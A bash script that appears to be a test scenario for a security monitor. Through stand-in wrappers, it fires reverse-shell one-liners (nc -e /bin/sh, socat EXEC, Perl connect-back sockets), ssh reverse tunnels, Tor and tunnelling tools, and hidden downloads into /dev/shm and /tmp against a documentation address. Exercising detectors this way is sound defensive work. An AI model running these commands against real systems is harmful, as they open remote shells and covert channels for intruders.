#!/bin/bash
# addresses: 198.51.100.7/32
# The line to the machine: shells and network pipes on the network, tunnels, downloads that hide. The other end is this
# machine itself, and the tools are stand-ins.
. /usr/local/lib/scenario.sh
set -u

to_other='socket(S, 2, 2, 0); connect(S, pack("S n C4 x8", 2, 4444, 198, 51, 100, 7)) or die;'
wait='socket(L, 2, 1, 0); bind(L, pack("S n C4 x8", 2, 0, 127, 0, 0, 1)); listen(L, 1) or die;'

for name in $SHELLS $NETWORK_PIPES; do
    perl_as "$name" -e "$to_other"
done
perl_as sh -e 'socket(S, 10, 2, 0); connect(S, pack("S n N a16 N", 10, 4444, 0, ("\0" x 15) . "\1", 0)) or die'
for name in $NETWORK_PIPES; do
    perl_as "$name" -e "$wait"
done
for name in nc ncat netcat nc.traditional; do
    play "$name" 198.51.100.7 4444 -e /bin/sh
done
play nc -c /bin/sh 198.51.100.7 4444
play ncat --exec /bin/sh 198.51.100.7 4444
play ncat --sh-exec id 198.51.100.7 4444
play socat TCP:198.51.100.7:4444 EXEC:/bin/sh
play socat TCP:198.51.100.7:4444 SYSTEM:id
for name in tor torsocks torify obfs4proxy; do
    play "$name"
done
play curl http://abcdefghijklmnop.onion/
for name in ngrok chisel cloudflared frpc gost bore iodine dnscat ptunnel proxychains4; do
    play "$name" 198.51.100.7
done
play ssh -R 2222:localhost:22 198.51.100.7
play ssh -N -R 2222:localhost:22 198.51.100.7
play ssh -o RemoteForward=2222 198.51.100.7
for name in $WEB_SERVERS php-fpm8.2; do
    act "$name" '/usr/local/as/true/curl http://198.51.100.7/x'
done
act nginx "/usr/local/as/act/x 'for name in $(echo $FETCHERS); do /usr/local/as/true/\$name x; done'"
for name in $FETCHERS; do
    tool=/usr/local/as/tee/$name
    "$tool" /dev/shm/x </dev/null
done
tool=/usr/local/as/tee/curl
"$tool" /tmp/.x </dev/null
"$tool" /var/tmp/.x </dev/null
rm /dev/shm/x /tmp/.x /var/tmp/.x
perl -e 'socket(S, 2, 3, 1); socket(S, 10, 3, 58); syscall(41, 2, $_, 1) for 3, 2051, 526339'
